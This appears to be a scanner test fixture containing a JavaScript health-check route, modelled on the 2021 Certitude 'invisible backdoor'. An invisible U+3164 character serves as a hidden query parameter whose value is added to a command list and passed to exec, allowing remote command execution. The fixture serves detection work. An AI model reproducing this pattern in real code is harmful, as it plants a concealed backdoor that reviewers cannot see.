# expect: unicode.invisible high
# note: the invisible backdoor (Certitude, 2021): U+3164 is a variable name in JavaScript
# path: server/health.js
app.get('/network_health', async (req, res) => {
    const { timeout,ㅤ} = req.query;
    const checkCommands = [
        'ping -c 1 google.com',
        'curl -s http://example.com/',ㅤ
    ];
    await Promise.all(checkCommands.map(cmd => cmd && exec(cmd, { timeout: +timeout || 5000 })));
});
